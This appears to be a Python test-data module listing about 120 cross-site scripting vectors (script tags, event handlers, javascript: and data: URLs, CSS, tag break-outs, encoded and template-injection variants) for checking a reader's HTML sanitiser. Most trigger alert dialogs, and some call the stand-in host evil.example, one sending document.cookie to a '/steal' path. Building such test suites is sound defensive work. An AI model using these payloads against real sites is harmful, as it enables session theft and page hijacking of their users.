"""Cross-site scripting vectors for the reader's safety test, written for this project.

The classic kinds, each in several shapes: script elements, event handlers on many elements,
``javascript:``/``data:``/``vbscript:`` URLs, SVG and MathML, CSS (``expression``, ``url()``,
``@import``), attribute and tag break-outs (quotes, backticks, comments, CDATA, ``</title>``,
``</textarea>``), entity- and percent-encoded and mixed-case variants, template-injection bait
(``{{ }}``, ``${ }``), and off-site loads (img, iframe, link, meta refresh, base, form action).
Every vector that would run calls ``alert``/``confirm``/``prompt`` or loads something from
``evil.example``, so a vector that got through shows up as a dialog or an off-site request.
"""

from __future__ import annotations

EVIL = "http://evil.example"

_SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(2)</SCRIPT>",
    "<ScRiPt>confirm(3)</sCrIpT>",
    "<script src=http://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<script>/*</script><script>*/alert(4)</script>",
    "<script\n>alert(5)</script\n>",
    "<script type=module>alert(6)</script>",
    "<script>eval('al'+'ert(7)')</script>",
    "<script>setTimeout('alert(8)')</script>",
    "<<script>alert(9);//<</script>",
    "<scr<script>ipt>alert(10)</scr</script>ipt>",
    "</script><script>alert(11)</script>",
    "<script>document.write('<img src=http://evil.example/w>')</script>",
    "<script>fetch('http://evil.example/steal?c='+document.cookie)</script>",
]

_HANDLERS = [
    "<img src=x onerror=alert(20)>",
    '<img src="x" onerror="alert(21)">',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(22)>",
    "<IMG SRC=x OnErRoR=alert(23)>",
    "<img/src=x/onerror=alert(24)>",
    "<img src=x:alert(25) onerror=eval(src)>",
    "<body onload=alert(26)>",
    "<svg onload=alert(27)>",
    "<svg/onload=alert(28)>",
    "<svg><script>alert(29)</script></svg>",
    "<svg><animate onbegin=alert(30) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(31) attributename=x to=1>",
    "<input autofocus onfocus=alert(32)>",
    "<select autofocus onfocus=alert(33)>",
    "<textarea autofocus onfocus=alert(34)>",
    "<details open ontoggle=alert(35)>",
    "<video src=x onerror=alert(36)>",
    "<audio src=x onerror=alert(37)>",
    "<marquee onstart=alert(38)>x</marquee>",
    "<div onmouseover=alert(39)>hover</div>",
    "<iframe onload=alert(40)></iframe>",
    "<object data=x onerror=alert(41)>",
    "<style onload=alert(42)></style>",
    "<link rel=stylesheet href=x onerror=alert(43)>",
    "<form><button formaction=javascript:alert(44)>go</button></form>",
    "<isindex type=image src=x onerror=alert(45)>",
    "<keygen autofocus onfocus=alert(46)>",
    "<body onpageshow=alert(47)>",
    "<img src=x onerror=\"window['al'+'ert'](48)\">",
    "<img src=x onerror=top[atob('YWxlcnQ=')](49)>",
]

_URLS = [
    "javascript:alert(60)",
    "JaVaScRiPt:alert(61)",
    " javascript:alert(62)",
    "java\tscript:alert(63)",
    "javascript&#58;alert(64)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(65)",
    "data:text/html,<script>alert(66)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg2Nyk8L3NjcmlwdD4=",
    "vbscript:msgbox(68)",
    '<a href="javascript:alert(69)">click</a>',
    "<a href=javascript&colon;alert(70)>click</a>",
    "<iframe src=javascript:alert(71)></iframe>",
    "<iframe src=http://evil.example/frame></iframe>",
    "<iframe srcdoc='<script>alert(72)</script>'></iframe>",
    "<embed src=http://evil.example/x.swf>",
    "<object data=javascript:alert(73)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(74)'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><input type=submit></form>",
    "<img src=http://evil.example/pixel.gif>",
    "<img srcset=http://evil.example/1x.png>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=prefetch href=http://evil.example/pre>",
    "https://example.id/berita?q=<script>alert(75)</script>",
    'https://example.id/"><script>alert(76)</script>',
    "https://example.id/'onmouseover='alert(77)",
    "//evil.example/protocol-relative",
]

_CSS = [
    "<div style=\"background:url('javascript:alert(80)')\">x</div>",
    '<div style="width:expression(alert(81))">x</div>',
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>body{background:url(http://evil.example/bg.png)}</style>",
    "<style>*{x:expression(alert(82))}</style>",
    '<p style="behavior:url(#default#time2)" onbegin="alert(83)">x</p>',
    "<div style=\"-moz-binding:url('http://evil.example/x.xml#x')\">x</div>",
    '<svg><style>@import "http://evil.example/svg.css"</style></svg>',
]

_BREAKOUTS = [
    '"><script>alert(90)</script>',
    "'><script>alert(91)</script>",
    '" onmouseover="alert(92)',
    "' onfocus='alert(93)' autofocus='",
    '"><img src=x onerror=alert(94)>',
    "`><img src=x onerror=alert(95)>",
    "</title><script>alert(96)</script>",
    "</textarea><script>alert(97)</script>",
    "</style><script>alert(98)</script>",
    "--><script>alert(99)</script>",
    "<!--<script>alert(100)</script>-->",
    "<![CDATA[<script>alert(101)</script>]]>",
    "]]><script>alert(102)</script>",
    "</noscript><script>alert(103)</script>",
    "</a><a href=javascript:alert(104)>x</a>",
    '"/><svg onload=alert(105)>',
    "</q><script>alert(106)</script>",
    "</time><img src=x onerror=alert(107)>",
]

_ENCODED = [
    "&lt;script&gt;alert(110)&lt;/script&gt;",
    "&#60;script&#62;alert(111)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(112)&#x3E;",
    "%3Cscript%3Ealert(113)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(114)%253C%252Fscript%253E",
    "\\u003cscript\\u003ealert(115)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(116)\\x3c/script\\x3e",
    "＜script＞alert(117)＜/script＞",
    "<scr\u0000ipt>alert(118)</scr\u0000ipt>",
    "<img src=x onerror=\u0061lert(119)>",
    "+ADw-script+AD4-alert(120)+ADw-/script+AD4-",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(121)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(122)>x</maction></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(123)>">',
    "<template><script>alert(124)</script></template>",
    "<xmp><script>alert(125)</script></xmp>",
]

_TEMPLATES = [
    "{{7*7}}{{ self.__init__.__globals__ }}",
    "{% for x in range(3) %}{{x}}{% endfor %}",
    "${alert(130)}",
    "#{alert(131)}",
    "{{constructor.constructor('alert(132)')()}}",
    "[[alert(133)]]",
]

VECTORS: list[str] = _SCRIPTS + _HANDLERS + _URLS + _CSS + _BREAKOUTS + _ENCODED + _TEMPLATES


def batches(size: int) -> list[list[str]]:
    """The vectors in groups of ``size`` (a page carries one group)."""
    return [VECTORS[i : i + size] for i in range(0, len(VECTORS), size)]
